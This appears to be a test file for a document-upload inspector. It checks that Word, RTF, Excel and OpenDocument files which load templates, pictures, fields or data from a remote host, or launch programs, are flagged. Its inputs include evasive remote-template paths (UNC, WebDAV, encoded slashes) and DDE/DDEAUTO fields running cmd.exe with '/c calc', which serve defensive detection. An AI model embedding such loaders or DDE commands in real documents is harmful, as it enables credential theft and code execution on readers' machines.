/**
 * Templates, pictures and objects that a document loads when it is opened: refused from a host, accepted from anywhere
 * else.
 */
import { CONTENT_OF_EXTENSION } from '@sievert/domain/documents/content-types'
import type { AllowedExtension } from '@sievert/domain/rules/file'
import { describe, expect, it } from 'vitest'
import * as make from '../../../../test/inspect/files.ts'
import { inspect } from './inspect.ts'

const relation = (type: string, target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Id="r" Type="a/${type}" TargetMode="External" ${target}/></Relationships>`,
})
const docx = (type: string, target: string) => make.ooxml('docx', { more: [relation(type, `Target="${target}"`)] })
const LOADED = [
  'attachedTemplate',
  'oleObject',
  'frame',
  'subDocument',
  'aFChunk',
  'image',
  'externalLinkPath',
  'xlExternalLinkPath/xlPathMissing',
  'mailMergeSource',
  'mailMergeHeaderSource',
  'video',
  'audio',
  'media',
]
const HOSTS = [
  'https://exempel.se/a.dotm',
  '\\\\exempel\\a.dotm',
  '//exempel/a.dotm',
  'file://exempel/a.dotm',
  'file:///\\\\exempel\\a.dotm',
  '%5c%5cexempel%5ca.dotm',
  '&#92;&#x5c;exempel/a.dotm',
  '\\\\?\\UNC\\exempel\\a.dotm',
  '\\\\exempel@SSL\\DavWWWRoot\\a.dotm',
]
const NO_HOSTS = [
  'file:///C:\\Mallar\\Brev%20A4.DOT',
  'C:\\Mallar\\Brev.dot',
  'Normal.dotm',
  'file://localhost/C:/a.dot',
]
const rtf = (path: string) => make.rtf(`{\\*\\template ${path}}`)

const document = (content: string) => ({ name: 'word/header1.xml', content: `<w:hdr><w:p>${content}</w:p></w:hdr>` })
const run = (content: string) => `<w:r>${content}</w:r>`
const char = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)
const field = (...content: string[]) =>
  document([char('begin'), ...content, char('separate'), run('<w:t>Svar</w:t>'), char('end')].join('\n'))
const simple = (text: string) => document(`<w:fldSimple w:instr="${text}"><w:r/></w:fldSimple>`)
const withField = (part: { name: string; content: string }) => make.ooxml('docx', { more: [part] })
const odt = (content: string, name = 'styles.xml') =>
  make.opendocument('odt', { more: [{ name, content: `<?xml version="1.0"?><a>${content}</a>` }] })
const docField = (text: string, encoding: BufferEncoding) => make.doc({ main: Buffer.from(text, encoding) })
const HOST = 'https://exempel.se/a.png'
const FIELDS = ['INCLUDEPICTURE', 'IncludeText', 'LINK Excel.Sheet.8', 'DDE Excel', 'DDEAUTO Excel', 'IMPORT']
const eachFormat = (text: string, verdict: string): typeof CASES => [
  [`the field ${text}`, 'docx', withField(field(code(text.replaceAll('"', '&quot;')))), verdict],
  [`the simple field ${text}`, 'docx', withField(simple(text.replaceAll('"', '&quot;'))), verdict],
  [`the field ${text}`, 'doc', docField(`\u0013 ${text} \u0014Svar\u0015`, 'utf16le'), verdict],
  [`the field ${text} of one byte a character`, 'doc', docField(`\u0013${text}\u0015`, 'latin1'), verdict],
  [`the field ${text}`, 'rtf', make.rtf(rtfField(text)), verdict],
]
const rtfField = (text: string) =>
  `{\\field{\\*\\fldinst {\\rtlch\\fcs1 \\af0 ${text.replaceAll('\\', '\\\\')}}}{\\fldrslt {Svar}}}`
const FIELD_CASES: () => typeof CASES = () => [
  ...FIELDS.flatMap((name) => eachFormat(`${name} "${HOST}" \\d`, 'external')),
  ...FIELDS.flatMap((name) => eachFormat(`${name} "\\\\\\\\exempel\\\\a.txt"`, 'external')),
  ...FIELDS.flatMap((name) => eachFormat(`${name} "C:\\\\Min mapp\\\\a.txt" \\* MERGEFORMAT`, 'taken')),
  ...eachFormat(`HYPERLINK "${HOST}" \\o "LINK"`, 'taken'),
  ...eachFormat('TOC \\o "1-3" \\h', 'taken'),
  ['a field in two runs', 'docx', withField(field(code('INCLUDE'), code(`PICTURE ${HOST}`))), 'external'],
  ['a field in CDATA', 'docx', withField(field(code(`<![CDATA[LINK a ${HOST}]]>`))), 'external'],
  [
    'a field whose target is the result of another',
    'docx',
    withField(
      field(
        code('INCLUDETEXT "'),
        char('begin'),
        code('REF a'),
        char('separate'),
        run(`<w:t>${HOST}</w:t>`),
        char('end'),
        code('"'),
      ),
    ),
    'external',
  ],
  [
    'a field behind a part of many chunks',
    'docx',
    withField(field(' '.repeat(2_000_000), code(`LINK a ${HOST}`))),
    'external',
  ],
  ['words about a field', 'docx', withField(document(run(`<w:t>INCLUDEPICTURE ${HOST}</w:t>`))), 'taken'],
  [
    'a hyperlink in the result of a field',
    'docx',
    withField(
      document(
        `${char('begin')}${code('LINK a C:\\b')}${char('separate')}${char('begin')}${code(`HYPERLINK ${HOST}`)}${char('end')}${char('end')}`,
      ),
    ),
    'taken',
  ],
  ...HARD_FIELDS(),
  ['a field by numbers', 'rtf', make.rtf(rtfField('').replace('af0 ', `af0 \\'49NCLUDEPICTURE ${HOST}`)), 'external'],
  ...[
    'draw:image',
    'draw:object',
    'draw:plugin',
    'draw:floating-frame',
    'text:section-source',
    'meta:template',
    'form:form',
    'script:event-listener',
    'style:background-image',
  ].flatMap((tag): typeof CASES => [
    [`${tag} of a host`, 'odt', odt(`<${tag} xlink:title=">" xlink:href="${HOST}"/>`), 'external'],
    [`${tag} of its own`, 'odt', odt(`<${tag} xlink:href="Pictures/a.png"/>`), 'taken'],
  ]),
  [
    'a picture of a host in UTF-16',
    'odt',
    make.opendocument('odt', {
      more: [{ name: 'a.xml', content: Buffer.from(`\ufeff<draw:image xlink:href="${HOST}"/>`, 'utf16le') }],
    }),
    'external',
  ],
  [
    'a hyperlink',
    'odt',
    odt(`<text:p>Se <text:a xlink:type="simple" xlink:href="${HOST}">här</text:a></text:p>`),
    'taken',
  ],
  [
    'a hyperlink of a shape',
    'odt',
    odt(`<draw:a xlink:href="${HOST}"/><draw:area-circle xlink:href="${HOST}"/>`),
    'taken',
  ],
  ['a DDE connection to a host', 'odt', odt(`<office:dde-source office:dde-topic="\\\\exempel\\a"/>`), 'external'],
]

const run1 = (text: string) => code(text.replaceAll('"', '&quot;'))
/** A field in each format, from pieces of its code: nested pieces are fields in the code. */
const ofPieces = (what: string, pieces: (string | { nested: string })[], verdict: string): typeof CASES => [
  [
    what,
    'docx',
    withField(
      field(
        ...pieces.map((one) => (typeof one === 'string' ? run1(one) : char('begin') + run1(one.nested) + char('end'))),
      ),
    ),
    verdict,
  ],
  ...(['latin1', 'utf16le'] as const).map((encoding): (typeof CASES)[0] => [
    `${what} (${encoding})`,
    'doc',
    docField(
      `\u0013${pieces.map((one) => (typeof one === 'string' ? one : `\u0013${one.nested}\u0015`)).join('')}\u0014Svar\u0015`,
      encoding,
    ),
    verdict,
  ]),
  [
    what,
    'rtf',
    make.rtf(
      `{\\field{\\*\\fldinst ${pieces
        .map((one) =>
          typeof one === 'string' ? one.replaceAll('\\', '\\\\') : `{\\field{\\*\\fldinst ${one.nested}}{\\fldrslt }}`,
        )
        .join('')}}{\\fldrslt {Svar}}}`,
    ),
    verdict,
  ],
]
const BLANKS = ' '.repeat(70_000)
const HARD_FIELDS = (): typeof CASES => [
  ...FIELDS.flatMap((name) => [
    ...ofPieces(`${name} behind blanks`, [`${BLANKS}${name} "${HOST}"`], 'external'),
    ...ofPieces(`${name} with blanks before its target`, [`${name} ${BLANKS} "${HOST}"`], 'external'),
    ...ofPieces(`${name} with a long target`, [`${name} "${'a'.repeat(70_000)}"`], 'external'),
    ...ofPieces(`${name} of a computed target`, [`${name} "`, { nested: 'QUOTE 104 116 116 112' }, '"'], 'external'),
    ...ofPieces(`${name} of a bookmark`, [`${name} `, { nested: 'REF a' }], 'external'),
    ...ofPieces(`${name} behind a nested field`, [' ', { nested: 'SET a 1' }, ` ${name} "${HOST}"`], 'external'),
  ]),
  ...ofPieces('a name in two parts', [{ nested: 'QUOTE "INCLUDE"' }, `PICTURE "${HOST}"`], 'external'),
  ...ofPieces('blanks before a local file', [`${BLANKS}INCLUDEPICTURE ${BLANKS} "C:\\a.png"`], 'taken'),
  ...ofPieces('a condition on another field', ['IF ', { nested: 'MERGEFIELD a' }, ' = "LINK" "b" "c"'], 'taken'),
  ...ofPieces('a hyperlink of another field', ['HYPERLINK "', { nested: 'MERGEFIELD a' }, `" ${HOST}`], 'taken'),
  ...ofPieces('a long field of another kind', [`ADDIN EN.CITE ${'a b '.repeat(30_000)}`], 'taken'),
  ...['DDEAUTO', 'DDE'].flatMap((name) => [
    ...ofPieces(`${name} of a program`, [`${name} c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"`], 'launch'),
    ...ofPieces(`${name} of a program in quotes`, [` ${name}  "cmd" "/c calc"`], 'launch'),
    ...ofPieces(`${name} of a path behind Excel`, [`${name} "excel\\\\..\\\\cmd.exe" "/c calc"`], 'launch'),
    ...ofPieces(`${name} of a workbook`, [`${name} "Excel" "C:\\\\a.xls" "R1C1"`], 'taken'),
  ]),
  ['a tab behind the name', 'docx', withField(field(code('LINK'), run('<w:tab/>'), code(`a ${HOST}`))), 'external'],
  ['a mark of another type', 'docx', withField(field(char('x'), code(`LINK a ${HOST}`))), 'external'],
  ['a field without end', 'docx', withField(document(char('begin') + code(`LINK a ${HOST}`))), 'external'],
  [
    'a field behind 70 KB of formatting',
    'rtf',
    make.rtf(`{\\field{\\*\\fldinst ${'\\b0'.repeat(24_000)} LINK a "${HOST}"}}`),
    'external',
  ],
  ['a field behind data', 'rtf', make.rtf(`{\\fldinst LINK \\bin1 }a "${HOST}"}`), 'external'],
  ['a tab behind the name', 'rtf', make.rtf(`{\\fldinst LINK\\tab a "${HOST}"}`), 'external'],
  ['a group that readers skip', 'rtf', make.rtf(`{\\fldinst {\\*\\other x}LINK a "${HOST}"}`), 'external'],
  ['a bookmark in a hyperlink', 'rtf', make.rtf(`{\\fldinst {\\*\\bkmkstart a}HYPERLINK "${HOST}"}`), 'taken'],
  [
    'a field behind a text of other letters',
    'doc',
    docField(`\u0413\u0413 \u0013LINK a ${HOST}\u0015`, 'utf16le'),
    'external',
  ],
  ['a field in a text of other letters', 'doc', docField('\u0413\u0414\u0415'.repeat(10_000), 'utf16le'), 'taken'],
]

const shape = (property: string, value: string) =>
  make.rtf(`{\\shp{\\*\\shpinst{\\sp{\\sn ${property}}{\\sv ${value}}}}}`)
const list = (path: string) => make.rtf(`{\\*\\filetbl{\\file\\fid0\\fnetwork ${path}}}`)
const vml = (content: string) => withField(document(`<w:pict><v:shape href="${HOST}">${content}</v:shape></w:pict>`))
const connections = (content: string) =>
  make.ooxml('xlsx', { more: [{ name: 'xl/connections.xml', content: `<connections>${content}</connections>` }] })
const database = (connection: string) =>
  connections(`<connection id="1" type="5"><dbPr connection="${connection}" command="a"/></connection>`)
const inside = (type: string, target: string) => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r" Type="a/${type}" Target="${target}"/></Relationships>`,
})
const OTHER_CASES = (): typeof CASES => [
  ...[1024, 1025, 20_000, 2_000_000].flatMap((count): typeof CASES => [
    [
      `a field in a part behind ${count} blanks`,
      'docx',
      withField({ name: 'word/a.xml', content: ' '.repeat(count) + simple(`LINK a ${HOST}`).content }),
      'external',
    ],
    [
      `a picture in a part behind ${count} blanks`,
      'odt',
      make.opendocument('odt', {
        more: [{ name: 'a.xml', content: `${'\n'.repeat(count)}<draw:image xlink:href="${HOST}"/>` }],
      }),
      'external',
    ],
    [
      `a picture in a part in UTF-16 behind ${count} blanks`,
      'odt',
      make.opendocument('odt', {
        more: [
          {
            name: 'a.xml',
            content: Buffer.from(`\ufeff${' '.repeat(count)}<draw:image xlink:href="${HOST}"/>`, 'utf16le'),
          },
        ],
      }),
      'external',
    ],
    [
      `an object in an RTF text behind ${count} blanks`,
      'docx',
      withField({ name: 'word/afchunk.dat', content: `${' '.repeat(count)}{\\rtf1{\\object}}` }),
      'content',
    ],
    [`a part of ${count} blanks`, 'docx', withField({ name: 'word/a.xml', content: ' '.repeat(count) }), 'taken'],
  ]),
  [
    'a picture whose target is an entity',
    'odt',
    make.opendocument('odt', {
      more: [{ name: 'a.xml', content: `<!DOCTYPE a [<!ENTITY e "${HOST}">]><draw:image xlink:href="&e;"/>` }],
    }),
    'external',
  ],
  ['a linked picture of a shape', 'rtf', shape('pibName', HOST), 'external'],
  ['a linked picture of a shape behind formatting', 'rtf', shape('pibName', `\\b {${HOST}}`), 'external'],
  ['a linked filling of a shape', 'rtf', shape('fillBlipName', '\\\\\\\\exempel\\\\a.png'), 'external'],
  ['a linked picture with a long name', 'rtf', shape('pibName', 'a'.repeat(5000)), 'external'],
  ['a picture from a drive', 'rtf', shape('pibName', 'C:\\\\a.png'), 'taken'],
  ['a description of a shape', 'rtf', shape('wzDescription', HOST), 'taken'],
  ['a file of a host', 'rtf', list('//exempel/a.rtf'), 'external'],
  ['a file on a drive', 'rtf', list('C:\\\\a.rtf'), 'taken'],
  ['the next file from a host', 'rtf', make.rtf('{\\*\\nextfile //exempel/a.rtf}'), 'external'],
  ['recipients from a host', 'rtf', make.rtf(`{\\*\\mailmerge{\\*\\mmdatasource ${HOST}}}`), 'external'],
  ...['imagedata', 'fill', 'stroke', 'image'].flatMap((tag): typeof CASES => [
    [`v:${tag} of a host`, 'docx', vml(`<v:${tag} src="${HOST}"/>`), 'external'],
    [`v:${tag} of a host by a link`, 'docx', vml(`<v:${tag} o:href='${HOST}'/>`), 'external'],
    [`v:${tag} of its own`, 'docx', vml(`<v:${tag} src="a.png" o:title="${HOST}"/>`), 'taken'],
  ]),
  ['a connection that loads', 'xlsx', connections('<connection id="1" refreshOnLoad="1"/>'), 'external'],
  ['a connection that loads', 'xlsx', connections('<x:connection id="1" refreshOnLoad = "true"/>'), 'external'],
  ['a connection that waits', 'xlsx', connections('<connection id="1" refreshOnLoad="0"/>'), 'taken'],
  ['a query of a page', 'xlsx', connections(`<connection id="1"><webPr url="${HOST}"/></connection>`), 'external'],
  ['a text from a host', 'xlsx', connections('<textPr sourceFile="\\\\exempel\\a.csv"/>'), 'external'],
  ...['Provider=SQLOLEDB;Data Source=exempel.se', 'DRIVER={SQL Server};SERVER=exempel', `URL;${HOST}`].map(
    (connection): (typeof CASES)[0] => [connection, 'xlsx', database(connection), 'external'],
  ),
  ...[
    'Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\a.accdb;Mode=Read',
    'Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=A;Extended Properties=&quot;&quot;',
    'Data Model Connection',
    'Provider=MSOLAP;Data Source=.\\SQLEXPRESS',
    'DSN=Excel Files;DBQ=C:\\a.xls;',
  ].map((connection): (typeof CASES)[0] => [connection, 'xlsx', database(connection), 'taken']),
  [
    'a table that is recalculated',
    'xlsx',
    make.ooxml('xlsx', { more: [{ name: 'xl/a.xml', content: '<pivotCacheDefinition refreshOnLoad="1"/>' }] }),
    'taken',
  ],
  [
    'recipients from a database',
    'docx',
    withField(document('<w:connectString w:val="Provider=a;Data Source=exempel.se"/>')),
    'external',
  ],
  ['DDE of a program', 'xlsx', connections('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), 'launch'],
  [
    'DDE of a program',
    'ods',
    make.opendocument('ods', {
      more: [
        { name: 'a.xml', content: '<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>' },
      ],
    }),
    'launch',
  ],
  [
    'DDE of LibreOffice',
    'odt',
    odt('<office:dde-source office:dde-application="soffice" office:dde-topic="/a.ods"/>'),
    'taken',
  ],
  ...['image', 'oleObject', 'frame', 'attachedTemplate'].flatMap((type) => [
    ...HOSTS.map((target): (typeof CASES)[0] => [
      `${type} ${target} without a mode`,
      'docx',
      withField(inside(type, target)),
      'external',
    ]),
    ...['media/a.png', '/word/media/a.png', '../a.png', 'NULL'].map((target): (typeof CASES)[0] => [
      `${type} ${target} without a mode`,
      'docx',
      withField(inside(type, target)),
      'taken',
    ]),
  ]),
]

const CASES: [what: string, extension: AllowedExtension, file: Buffer, verdict: string][] = [
  ...LOADED.flatMap((type) => [
    ...HOSTS.map((target): (typeof CASES)[0] => [`${type} ${target}`, 'docx', docx(type, target), 'external']),
    ...NO_HOSTS.map((target): (typeof CASES)[0] => [`${type} ${target}`, 'docx', docx(type, target), 'taken']),
  ]),
  [
    'a template without an address',
    'docx',
    make.ooxml('docx', { more: [relation('attachedTemplate', '')] }),
    'external',
  ],
  ['a hyperlink', 'docx', docx('hyperlink', 'https://exempel.se/'), 'taken'],
  [
    'a picture from a host',
    'xlsx',
    make.ooxml('xlsx', { more: [relation('image', `Target="${HOSTS[0]}"`)] }),
    'external',
  ],
  ['a template from a host', 'doc', make.doc({ template: 'https://exempel.se/a.dot' }), 'external'],
  ['a template of another machine', 'doc', make.doc({ template: '\\\\exempel\\a.dot' }), 'external'],
  ['a template of another machine', 'doc', make.doc({ template: '//exempel/a.dot' }), 'external'],
  ['a template on a drive', 'doc', make.doc({ template: 'C:\\Mallar\\Brev på A4.dot' }), 'taken'],
  ['a template without a path', 'doc', make.doc({ template: 'Normal' }), 'taken'],
  ['//', 'rtf', rtf('//exempel/a.dotm'), 'external'],
  ['either slash', 'rtf', rtf('/\\\\exempel/a.dotm'), 'external'],
  ['two backslashes', 'rtf', rtf('\\\\\\\\exempel\\\\a.dotm'), 'external'],
  ['two backslashes behind a line break', 'rtf', rtf('\r\n\\\\\\\\exempel\\\\a.dotm'), 'external'],
  ['two backslashes with a line break between', 'rtf', rtf('\\\\\r\n\\\\exempel\\\\a.dotm'), 'external'],
  ['file://', 'rtf', rtf('file://exempel/a.dotm'), 'external'],
  ['percent-encoded slashes', 'rtf', rtf('%5C%5Cexempel/a.dotm'), 'external'],
  ['slashes in Unicode', 'rtf', rtf('\\u47?\\u47?exempel/a.dotm'), 'external'],
  ['slashes in Unicode beyond its end', 'rtf', rtf('\\u65583?\\u65583?exempel/a.dotm'), 'external'],
  ['slashes by number', 'rtf', rtf("\\'2f\\'2fexempel/a.dotm"), 'external'],
  ['a group', 'rtf', rtf('{http}://exempel.se/a.dotm'), 'external'],
  ['a file on a drive', 'rtf', rtf('file:///C:/Mallar/Brev.dot'), 'taken'],
  ['a path on a drive with Swedish letters', 'rtf', rtf("C:\\\\Anv\\'e4ndare\\\\\\u197?ke.dot"), 'taken'],
  ['a name', 'rtf', rtf('Normal.dotm'), 'taken'],
  ...FIELD_CASES(),
  ...OTHER_CASES(),
  [
    'fields within fields without end',
    'rtf',
    make.rtf(`${'{\\fldinst '.repeat(200_000)}${'}'.repeat(200_000)}`),
    'too-complex',
  ],
  ['fields without end', 'doc', docField('\u0013LINK '.repeat(500_000), 'latin1'), 'external'],
  ['fields within fields without end', 'docx', withField(document(char('begin').repeat(100_000))), 'too-complex'],
]

describe('a document that loads', () => {
  it.each(CASES)('%s (.%s) is judged by whether it names a host (FIL-10)', async (_what, extension, file, verdict) => {
    expect((await inspect(file, CONTENT_OF_EXTENSION[extension])) ?? 'taken').toBe(verdict)
  })
})
